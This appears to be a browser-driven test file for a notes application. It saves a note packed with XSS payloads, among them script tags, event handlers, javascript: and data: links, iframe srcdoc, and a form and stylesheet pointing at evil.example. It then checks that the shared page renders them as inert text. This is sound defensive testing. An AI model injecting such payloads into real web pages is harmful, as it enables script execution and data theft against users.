// A shared note full of XSS payloads, opened in Chromium: it reads as a page, nothing of the
// payloads is live in the DOM, nothing runs, and the browser logs no CSP violation.
import { expect, test } from "bun:test";
import { Api } from "../support/api";
import { chromiumForThisFile, watchPage } from "../support/browser";
import { serverForThisFile } from "../support/server";

const PAYLOADS = `Plain words first, then *every* trick.

<script>window.__pwned = "script"</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<p onclick="window.__pwned = 'onclick'" style="background:url(javascript:alert(1))">click me</p>

[plain javascript](javascript:window.__pwned='link')
[mixed case](JaVaScRiPt:window.__pwned='case')
[entities](&#106;avascript:window.__pwned='entity')
[spaced]( javascript:window.__pwned='spaced')
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vbscript](vbscript:msgbox(1))
<a href="javascript:window.__pwned='anchor'">raw anchor</a>

<iframe src="javascript:window.__pwned='iframe'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<object data="javascript:window.__pwned='object'"></object>
<embed src="javascript:window.__pwned='embed'">
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<math><a xlink:href="javascript:window.__pwned='math'">math</a></math>
<form action="https://evil.example/steal"><input name="q"><button formaction="javascript:alert(1)">go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned='meta'">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { display: none }</style>
<details open ontoggle="window.__pwned='toggle'"><summary>open</summary>details</details>

![img trick](x" onerror="window.__pwned='md-img')
[![nested](javascript:alert(1))](javascript:window.__pwned='nested')

\`\`\`html
<script>this stays text</script>
\`\`\`

Last line.`;

const browser = await chromiumForThisFile();
const { server } = await serverForThisFile();

test("a note full of XSS payloads shows as text: no script, handler, javascript: link, frame, object, form or style is live, and no CSP violation is logged", async () => {
  const { api } = await new Api(server.url).newUser("xss");
  const noteId = (await api.post("/api/notes", { title: `<img src=x onerror="window.__pwned='title'"> Payloads`, content: PAYLOADS, tags: [] })).body.id;
  const link = (await api.post(`/api/notes/${noteId}/shares`, {})).body;
  const path = new URL(link.url).pathname;

  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const page = await context.newPage();
  const watch = watchPage(page);
  const violations: string[] = [];
  await page.exposeBinding("__reportViolation", (_source, text: string) => void violations.push(text));
  // Listening before the page's own code could: any blocked script, style, frame or image shows up here.
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) =>
      (window as unknown as { __reportViolation(text: string): void }).__reportViolation(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  const response = await page.goto(`${server.url}${path}`);
  expect(response!.status()).toBe(200);
  await page.getByRole("heading", { level: 1, name: /Payloads/ }).waitFor();
  // Links and details are clicked too: a handler or a javascript: URL would run now.
  for (const anchor of await page.locator("a").all()) await anchor.click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
  await page.locator("summary").first().click();

  const dom = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    return {
      pwned: (window as unknown as { __pwned?: string }).__pwned ?? null,
      dangerousTags: all.map((element) => element.tagName.toLowerCase()).filter((tag) => ["script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "meta", "base", "link", "frame"].includes(tag) && tag !== "meta"),
      metas: [...document.querySelectorAll("meta")].map((meta) => meta.getAttribute("http-equiv")).filter(Boolean),
      styles: document.querySelectorAll("style").length,
      handlers: all.flatMap((element) => [...element.attributes].filter((attribute) => /^on/i.test(attribute.name) || attribute.name === "style" || attribute.name === "srcdoc").map((attribute) => `${element.tagName}@${attribute.name}`)),
      hrefs: [...document.querySelectorAll("[href], [src], [action], [formaction], [data]")].flatMap((element) =>
        ["href", "src", "action", "formaction", "data", "xlink:href"].map((name) => element.getAttribute(name)).filter((value): value is string => value !== null),
      ),
      text: document.body.innerText,
      overflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      location: location.pathname,
    };
  });
  await context.close();

  expect(dom.pwned).toBeNull();
  expect(dom.location).toBe(path);
  expect(dom.dangerousTags).toEqual([]);
  expect(dom.metas).toEqual([]);
  expect(dom.styles).toBe(1); // the page's own, allowed by its hash
  expect(dom.handlers).toEqual([]);
  for (const url of dom.hrefs) expect(url).not.toMatch(/^\s*(javascript|vbscript|data):/i);
  expect(dom.text).toContain("Plain words first");
  expect(dom.text).toContain("<script>this stays text</script>");
  expect(dom.text).toContain("Last line.");
  expect(dom.text).toContain(`<img src=x onerror="window.__pwned='title'"> Payloads`);
  // Reads at a phone's width: nothing wider than the screen.
  expect(dom.overflow).toBeLessThanOrEqual(0);
  expect(violations).toEqual([]);
  expect(watch.errors.filter((error) => /Content Security Policy|Refused to/i.test(error.text))).toEqual([]);
  expect(watch.requests.filter((url) => !url.startsWith(`${server.url}/`))).toEqual([]);
});
